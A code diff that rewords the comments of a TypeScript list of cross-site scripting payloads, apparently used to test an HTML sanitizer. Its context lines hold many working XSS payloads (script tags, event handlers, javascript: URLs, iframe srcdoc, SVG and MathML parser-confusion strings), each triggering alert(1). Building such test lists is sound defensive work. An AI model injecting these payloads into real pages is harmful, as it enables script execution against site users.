@@ -1,4 +1,4 @@
-/** Known ways to smuggle a script into a page. Each calls `alert` where one gets through. */
+/** Known ways to inject a script into a page. Each calls `alert` if it succeeds. */
 export const scriptPayloads: readonly string[] = [
   // Plain.
   '<script>alert(1)</script>',
@@ -20,7 +20,7 @@ export const scriptPayloads: readonly string[] = [
   '<input autofocus onfocus=alert(1)>',
   '<marquee onstart=alert(1)>',
   '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">text</b>',
-  // Addresses that run.
+  // Executable URLs.
   '<a href="javascript:alert(1)">link</a>',
   '<a href="JaVaScRiPt:alert(1)">link</a>',
   '<a href=" &#14; javascript:alert(1)">link</a>',
@@ -37,7 +37,7 @@ export const scriptPayloads: readonly string[] = [
   '<base href="javascript:/a/-alert(1)///">',
   '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
   '<area href="javascript:alert(1)">',
-  // Other documents.
+  // Embedded documents.
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
   '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
@@ -56,7 +56,7 @@ export const scriptPayloads: readonly string[] = [
   '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>#x"></svg>',
   '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">link</maction></math>',
   '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
-  // What one parser reads otherwise than another.
+  // Markup that parsers read differently.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
   '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
@@ -70,7 +70,7 @@ export const scriptPayloads: readonly string[] = [
   '<!--><script>alert(1)</script>-->',
   '<!--[if true]><script>alert(1)</script><![endif]-->',
   '<?xml version="1.0"?><script>alert(1)</script>',
-  // Nested, broken, in two layers of encoding.
+  // Nested, broken and doubly encoded markup.
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
   '<<script>alert(1);//<</script>',
   '<img src="x` `<script>alert(1)</script>"` `>',
